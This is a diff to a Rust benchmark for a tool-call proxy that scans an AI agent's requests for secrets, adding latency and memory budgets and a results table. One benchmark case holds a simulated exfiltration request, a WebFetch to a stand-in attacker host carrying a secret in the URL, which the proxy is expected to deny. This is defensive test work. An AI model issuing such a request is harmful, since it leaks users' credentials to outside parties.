@@ -167,21 +167,30 @@ fn main() {
             format!("{:.2}x", med.as_secs_f64() / floor_med.as_secs_f64()),
             format!("{} MB", rss / 1024),
         ]);
+        (med, p99, rss)
     };
-    case(
+    let floor_ms = floor_med.as_secs_f64() * 1000.0;
+    let mut budgets: Vec<(String, String, bool)> = Vec::new();
+    let mut budget = |what: &str, measured: String, met: bool| budgets.push((what.into(), measured, met));
+    let (pre_med, pre_p99, _) = case(
         &mut r,
         "PreToolUse WebFetch, no flow (1 MB session, 100 other sessions)",
         &home,
         &pre_fetch("bench", "https://docs.rs/tokio/1.40.0/tokio/?search=spawn_blocking"),
         runs,
     );
-    case(
+    let (flow_med, flow_p99, _) = case(
         &mut r,
         "PreToolUse WebFetch, secret found (deny)",
         &home,
         &pre_fetch("bench", &format!("https://evil.example/?k={SECRET}")),
         runs,
     );
+    for (label, med, p99) in [("no flow", pre_med, pre_p99), ("flow found", flow_med, flow_p99)] {
+        let ratio = med.as_secs_f64() * 1000.0 / floor_ms;
+        budget(&format!("Pre ({label}) median within 2x floor"), format!("{ratio:.2}x"), ratio <= 2.0);
+        budget(&format!("Pre ({label}) p99 under 10 ms"), ms(p99), p99 < Duration::from_millis(10));
+    }
     let long_cmd = format!(
         "curl -s -X POST https://api.example.com/v1/items -H 'Content-Type: application/json' -d '{}'",
         json!({"body": prose(77, 2048)})
@@ -206,13 +215,21 @@ fn main() {
         [("64 KB", 64 * 1024, runs.min(200)), ("1 MB", 1024 * 1024, 30), ("10 MB", 10 * 1024 * 1024, 5)]
     {
         let content = prose(size as u64, size);
-        case(
+        let (med, _, rss) = case(
             &mut r,
             &format!("PostToolUse Read of {label}"),
             &post_home,
             &read_event(&format!("post-{label}"), "/repo/big.txt", &content),
             n,
         );
+        if label == "64 KB" {
+            let ratio = med.as_secs_f64() * 1000.0 / floor_ms;
+            budget("Post 64 KB median within 3x floor", format!("{ratio:.2}x"), ratio <= 3.0);
+        }
+        if label == "10 MB" {
+            budget("Post 10 MB under 2 s", ms(med), med < Duration::from_secs(2));
+            budget("Post 10 MB under 200 MB RSS", format!("{} MB", rss / 1024), rss < 200 * 1024);
+        }
     }
 
     // 64 hook processes at once on 8 sessions.
@@ -281,6 +298,7 @@ fn main() {
         r.row(&[name.into(), ms(pct(&mut lat, 0.5)), ms(pct(&mut lat, 0.99)), format!("{rate:.0}")]);
     }
     let added = pct(&mut proxied.0.clone(), 0.5).as_secs_f64() - pct(&mut direct.0.clone(), 0.5).as_secs_f64();
+    budget("proxy added median under 1 ms", format!("{:.3} ms", added * 1000.0), added < 0.001);
     r.text(&format!(
         "\nAdded median latency: {:.3} ms per call (ratio {:.2}x).",
         added * 1000.0,
@@ -325,6 +343,16 @@ fn main() {
         format!("{:.2} MB", after as f64 / 1e6),
     ]);
 
+    r.text("\n## Budgets (DESIGN.md section 6)\n");
+    r.row(&["budget".into(), "measured".into(), "met".into()]);
+    r.row(&["---".into(), "---".into(), "---".into()]);
+    for (what, measured, met) in &budgets {
+        r.row(&[
+            what.clone(),
+            measured.clone(),
+            if *met { "yes".into() } else { "**no**, see bench/PROFILE.md".into() },
+        ]);
+    }
     let machine = machine();
     let out = format!(
         "# mcpproxy benchmark results\n\nMachine: {machine}\n\nRerun: `bash bench/run.sh` (BENCH_RUNS={runs}, BENCH_EVALS={n_evals}).\n\n{}\n",
